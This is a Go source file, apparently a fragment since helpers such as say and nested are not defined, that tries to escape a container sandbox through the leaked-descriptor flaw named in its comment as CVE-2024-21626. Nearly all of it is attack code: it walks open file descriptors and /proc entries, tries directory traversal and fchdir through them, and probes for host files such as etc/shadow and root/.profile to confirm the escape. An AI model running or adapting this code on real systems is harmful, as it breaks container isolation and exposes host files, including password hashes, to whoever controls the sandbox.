package main

import (
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// Looks for descriptors and folders that were left open, and leaves the
// sandbox by them (CVE-2024-21626).
func attack(where string) {
	if where == "host" {
		nested("nested")
	}
	for fd := range 256 {
		if link, err := os.Readlink(fmt.Sprint("/proc/self/fd/", fd)); fd > 2 && err == nil && !strings.HasPrefix(link, "anon_inode") && !strings.HasPrefix(link, "pipe") {
			say(link, "descriptor")
		}
		for _, way := range []string{"..", "../../../../../../../..", "../../../etc/shadow"} {
			if got, err := unix.Openat(fd, way, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
				out(fmt.Sprint("descriptor ", fd, " ", way), got)
			}
		}
		if unix.Fchdir(fd) == nil {
			say("ok", fmt.Sprint("got out: chdir to descriptor ", fd))
		}
	}
	dirs, _ := os.ReadDir("/proc")
	for _, d := range dirs {
		for _, way := range []string{"cwd", "root", "cwd/../../../../../..", "root/.."} {
			if fd, err := unix.Open("/proc/"+d.Name()+"/"+way, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
				out("/proc/"+d.Name()+"/"+way, fd)
			}
		}
		for fd := range 64 {
			path := fmt.Sprintf("/proc/%s/fd/%d", d.Name(), fd)
			if got, err := unix.Open(path+"/..", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
				out(path, got)
			}
		}
	}
	for _, way := range []string{"..", "../../../../..", "/proc/self/cwd/../../..", "/proc/self/root/../.."} {
		if fd, err := unix.Open(way, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
			out(way, fd)
		}
	}
	say("done", "looked")
}

// out tells whether a folder is one of the machine's.
func out(how string, fd int) {
	defer unix.Close(fd)
	for _, name := range []string{"etc/shadow", "boot", "root/.profile", "var/lib", "var/log", "etc/fstab"} {
		if unix.Faccessat(fd, name, unix.F_OK, 0) == nil {
			say("ok", "got out: "+how+" has "+name)
		}
	}
}
